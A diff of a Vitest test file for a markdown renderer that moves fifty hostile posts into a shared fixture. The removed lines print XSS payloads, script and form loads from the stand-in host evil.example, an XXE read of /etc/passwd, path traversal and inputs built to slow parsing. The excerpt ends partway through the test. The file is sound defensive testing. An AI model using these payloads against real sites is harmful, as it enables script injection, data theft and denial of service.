@@ -1,74 +1,12 @@
 // Whatever someone writes into a post becomes text or our own marks in bounded time: no script, no foreign picture, no frame, no style.
 import { describe, expect, it } from 'vitest';
+import { ADDRESSES, hostilePosts, TAGS } from '../../../../test/hostile-posts.ts';
 import { renderMarkdown } from './render-markdown.ts';
 
-const deep = (mark: string, count: number) => mark.repeat(count);
-
-/** Fifty posts, each of which has broken some renderer. */
-const posts: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="//evil.example/x.swf">',
-  '<base href="//evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=//evil.example">',
-  '<link rel="stylesheet" href="//evil.example/x.css">',
-  '<style>@import "//evil.example/x.css";</style>',
-  '<div style="position:fixed;inset:0">x</div>',
-  '<form action="//evil.example"><button>Send</button></form>',
-  '<details open ontoggle=alert(1)>',
-  '<template><script>alert(1)</script></template>',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
-  '[x](javascript:alert(1))',
-  '[x](JaVa\tScRiPt:alert(1))',
-  '[x](java&#10;script:alert(1))',
-  '[x](&#x6A;avascript:alert(1))',
-  '[x](vbscript:msgbox(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](file:///etc/passwd)',
-  '[x](" onmouseover="alert(1))',
-  '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
-  '[x]: javascript:alert(1)\n\n[x]',
-  '<javascript:alert(1)>',
-  '![x](https://evil.example/pixel.gif)',
-  '![x](//evil.example/pixel.gif)',
-  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
-  '![x" onerror="alert(1)](back-lawn-rotor-spray)',
-  '![x](upload-1)',
-  '![x](upload-99999999999)',
-  '![x](__proto__)',
-  '![x](../../../../etc/passwd)',
-  '# <script>alert(1)</script>',
-  '```"><script>alert(1)</script>\nx\n```',
-  '| <script>alert(1)</script> |\n|:--|\n| <img src=x onerror=alert(1)> |',
-  '> '.repeat(1_000),
-  `${deep('[', 5_000)}x${deep('](', 5_000)}`,
-  deep('*_', 10_000),
-  deep('- ', 5_000),
-  deep('`', 15_000),
-  `${deep('![', 7_000)}x`,
-  `[a]: b\n${deep('[a]', 9_000)}`,
-  `x${deep(' ', 29_000)}\u202Etxt.exe\u0000`,
-];
-
-/** What may stand in an HTML of ours; everything else that looks like a tag is escaped. */
-const TAGS =
-  /<\/?(p|h[2-6]|em|strong|s|a|ul|ol|li|blockquote|pre|code|hr|br|table|thead|tbody|tr|th|td|div|picture|source|img)(\s[^<>]*)?>/g;
-
-/** Addresses of links and pictures. */
-const ADDRESSES = /\s(?:href|src|srcset)="([^"]*)"/g;
-
 describe('a hostile post', () => {
-  it('there are fifty of', () => expect(new Set(posts)).toHaveLength(50));
+  it('there are fifty of, and ten more', () => expect(new Set(hostilePosts)).toHaveLength(60));
 
-  it.each(posts.map((post) => [post.slice(0, 60), post]))('%s', (_start, post) => {
+  it.each(hostilePosts.map((post) => [post.slice(0, 60), post]))('%s', (_start, post) => {
     const begun = performance.now();
     const html = renderMarkdown(post);
     // Generous for a busy machine; what grows with the square of its length takes minutes.
